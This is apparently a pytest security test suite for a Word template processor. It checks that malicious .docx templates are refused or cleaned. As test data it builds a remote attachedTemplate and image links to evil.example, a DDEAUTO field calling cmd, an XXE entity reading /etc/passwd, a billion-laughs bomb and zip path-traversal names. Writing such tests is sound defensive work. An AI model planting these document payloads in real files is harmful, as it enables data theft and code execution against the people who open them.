"""Word templates that are made to harm, or broken in any way: used without harm, or refused in a sentence."""

from __future__ import annotations

import copy
import io
import os
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree

from citerm.documents.minutes import build
from citerm.documents.word import changed_by_hand, to_docx
from citerm.documents.word.offers import offers
from citerm.model.message import Refused
from tests.bounded import bounded
from tests.documents.conftest import parts
from tests.documents.make_base import BASE
from tests.documents.records import rich_record
from tests.documents.test_template import organisation, repacked, saved
from tests.tools import SOAK

pytestmark = pytest.mark.soak

ROUNDS = 1_000 if SOAK else 8
BODY, HEADER = "word/document.xml", "word/header1.xml"
_RELATION = (
    b'<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="%s" TargetMode="External"/></Relationships>'
)
_NO_RELATIONS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
)


def template() -> bytes:
    """A municipality's own file."""
    return saved(organisation())


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """The package with a part more, or another one of this name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for known, old in parts(content).items():
            if known != name:
                package.writestr(known, old)
        package.writestr(name, part)
    return buffer.getvalue()


def reaching(content: bytes, relations: str, kind: bytes, target: bytes) -> bytes:
    """The package in which a part has a relation to what lies outside."""
    known = parts(content).get(relations, _NO_RELATIONS)
    return with_part(content, relations, known.replace(b"</Relationships>", _RELATION % (kind, target)))


def in_body(text: bytes) -> Callable[[str, bytes], bytes]:
    """Put something at the end of the body."""
    return lambda name, part: part.replace(b"</w:body>", text + b"</w:body>") if name == BODY else part


def defining(definitions: bytes) -> Callable[[str, bytes], bytes]:
    """Put definitions of entities before the body."""
    return lambda name, part: part.replace(b"<w:document", definitions + b"<w:document", 1) if name == BODY else part


@pytest.fixture
def printed(tmp_path: Path) -> Callable[[bytes], bytes]:
    """Print the rich minutes on a template."""

    def write(content: bytes) -> bytes:
        path = tmp_path / "brev.docx"
        path.write_bytes(content)
        return to_docx(build(rich_record("da")), BASE, path)

    return write


@pytest.fixture
def told(printed: Callable[[bytes], bytes]) -> Callable[[bytes], str]:
    """What is said of a template that cannot be used."""

    def attempt(content: bytes) -> str:
        with pytest.raises(Refused) as refused:
            printed(content)
        return refused.value.message.text

    return attempt


def test_macros_are_found_whatever_the_file_calls_itself(told: Callable[[bytes], str]) -> None:
    assert "macros" in told(with_part(template(), "word/vbaProject.bin", b"\xd0\xcf"))
    assert "macros" in told(with_part(template(), "word/VBAPROJECT.BIN", b""))


def test_the_template_that_word_had_it_from_is_never_fetched(
    printed: Callable[[bytes], bytes], audit: Callable[[bytes], None]
) -> None:
    content = reaching(template(), "word/_rels/settings.xml.rels", b"attachedTemplate", b"https://evil.example/x.dotm")
    settings = parts(content)["word/settings.xml"]
    content = with_part(
        content, "word/settings.xml", settings.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId90"/><w:zoom', 1)
    )
    assert b"attachedTemplate" in parts(content)["word/settings.xml"]
    made = printed(content)
    assert not any(b"evil.example" in part or b"attachedTemplate" in part for part in parts(made).values())
    audit(made)


def test_what_hangs_on_the_body_goes_with_it(printed: Callable[[bytes], bytes]) -> None:
    made = printed(reaching(template(), "word/_rels/document.xml.rels", b"image", b"https://evil.example/spy.png"))
    assert not any(b"evil.example" in part for part in parts(made).values())


def test_a_picture_that_lies_elsewhere_is_refused_and_a_link_stays(
    told: Callable[[bytes], str], printed: Callable[[bytes], bytes]
) -> None:
    relations = "word/_rels/header1.xml.rels"
    for kind, target in ((b"image", b"https://evil.example/spy.png"), (b"oleObject", b"file:///etc/passwd")):
        assert "outside the file" in told(reaching(template(), relations, kind, target))
    assert "outside the file" in told(reaching(template(), relations, b"hyperlink", b"file://evil.example/share"))
    made = printed(reaching(template(), relations, b"hyperlink", b"https://nordby.example"))
    assert any(b"nordby.example" in part for part in parts(made).values())


@pytest.mark.parametrize(
    "field",
    [
        b'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/x&quot; "/>',
        b"<w:r><w:instrText>DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\cmd</w:instrText></w:r>",
    ],
)
def test_a_field_that_fetches_is_refused_and_a_page_number_stays(
    told: Callable[[bytes], str], printed: Callable[[bytes], bytes], field: bytes
) -> None:
    def put(text: bytes) -> bytes:
        return repacked(
            template(), lambda name, part: part.replace(b"</w:p>", text + b"</w:p>", 1) if name == HEADER else part
        )

    assert "outside the file" in told(put(field))
    printed(put(b'<w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK x </w:instrText></w:r>'))


LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%b">' % (after, b"&%c;" % before * 10)
    for before, after in zip(b"abcdefghi", b"bcdefghij", strict=True)
)

RUN = """
import sys
from pathlib import Path
from citerm.documents.word import to_docx
from citerm.documents.tree import Document
from citerm.documents.word.template import open_template
from citerm.model.message import Refused
for name in sys.argv[1:]:
    try:
        open_template(Path(name))
        print("opened")
    except Refused as refused:
        print(refused.message.text)
"""


def test_a_template_that_would_fill_the_machine_is_refused_within_bounds(tmp_path: Path) -> None:
    many = b"<w:p/>" * 2_500_000
    bombs = {
        "entities": (repacked(template(), defining(LAUGHS + b"]>")), "damaged"),
        "external": (
            repacked(template(), defining(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
            "damaged",
        ),
        "paragraphs": (with_part(template(), BODY, in_body(many)(BODY, parts(template())[BODY])), "too large"),
        "spaces": (with_part(template(), "word/media/x.bin", b" " * 51_000_000), "too large"),
        "deep": (repacked(template(), in_body(b"<w:p>" * 90_000 + b"</w:p>" * 90_000)), "damaged"),
        "long": (repacked(template(), in_body(b"<w:p>" + b"x" * 11_000_000 + b"</w:p>")), ""),
    }
    for name, (content, _) in bombs.items():
        (tmp_path / name).write_bytes(content)
    took = bounded(RUN, *(str(tmp_path / name) for name in bombs), env={"HOME": str(tmp_path)})
    assert took.status == 0, took.err
    said = took.out.splitlines()
    assert [wanted in line for line, (_, wanted) in zip(said, bombs.values(), strict=True)] == [True] * len(bombs), said
    assert took.megabytes < 400


def test_names_that_lead_out_of_the_package_lead_nowhere(printed: Callable[[bytes], bytes], tmp_path: Path) -> None:
    content = with_part(with_part(template(), "../../../evil", b"x"), "/etc/evil", b"x")
    assert not any("evil" in name for name in parts(printed(content)))
    assert sorted(path.name for path in tmp_path.iterdir()) == ["brev.docx"]


@pytest.mark.timeout(20)
def test_what_is_no_file_is_not_read(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pibe.docx")
    (tmp_path / "mappe.docx").mkdir()
    for path in (tmp_path / "pibe.docx", tmp_path / "mappe.docx", Path("/dev/zero"), Path("x\0y"), Path("æ" * 300)):
        with pytest.raises(Refused, match="cannot be read"):
            to_docx(build(rich_record("da")), BASE, path)
        assert changed_by_hand(path)


VALUES = ["", "x", "-1", "9" * 20, "1e9", "0", "true", "rId1", "æ", "../../x", "a" * 3000, "0x1"]


def broken(chance: random.Random, whole: dict[str, bytes]) -> bytes:
    """The package with some elements, attributes, texts or parts of it changed by chance."""
    changed = dict(whole)
    for _ in range(chance.randint(1, 4)):
        name = chance.choice([name for name in changed if name.endswith((".xml", ".rels"))])
        tree = etree.fromstring(changed[name])
        elements = list(tree.iter("*"))
        one, other = chance.choice(elements), chance.choice(elements)
        match chance.randrange(6):
            case 0 if one.getparent() is not None:
                one.getparent().remove(one)
            case 1 if one.attrib:
                one.set(chance.choice(list(one.attrib)), chance.choice(VALUES))
            case 2 if one.attrib:
                del one.attrib[chance.choice(list(one.attrib))]
            case 3:
                one.text = chance.choice(VALUES)
            case 4:
                one.append(copy.deepcopy(other))
            case _:
                one.tag = other.tag
        changed[name] = etree.tostring(tree)
    if chance.random() < 0.1:
        del changed[chance.choice(list(changed))]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, part in changed.items():
            package.writestr(name, part)
    return buffer.getvalue()


def test_a_template_broken_by_chance_is_used_or_refused(tmp_path: Path) -> None:
    document, whole, path = build(rich_record("da")), parts(template()), tmp_path / "brev.docx"
    come = {True: 0, False: 0}
    for seed in (*range(ROUNDS), 36, 45, 88, 154, 230):
        path.write_bytes(broken(random.Random(seed), whole))
        try:
            made = to_docx(document, BASE, path)
            offers(path)
        except Refused as refused:
            come[False] += 1
            assert refused.message.values == {"name": "brev.docx"}, seed
        else:
            come[True] += 1
            assert len(parts(made)) > 5, seed
    assert min(come.values()) > 1, come


def test_bytes_changed_by_chance_are_used_or_refused(tmp_path: Path) -> None:
    document, whole, path = build(rich_record("da")), template(), tmp_path / "brev.docx"
    for seed in range(ROUNDS * 2):
        chance, content = random.Random(seed), bytearray(whole)
        for _ in range(chance.randint(1, 9)):
            content[chance.randrange(len(content))] = chance.randrange(256)
        path.write_bytes(content[: chance.randrange(len(content))] if seed % 5 == 0 else content)
        changed_by_hand(path)
        try:
            to_docx(document, BASE, path)
        except Refused as refused:
            assert refused.message.values == {"name": "brev.docx"}, seed
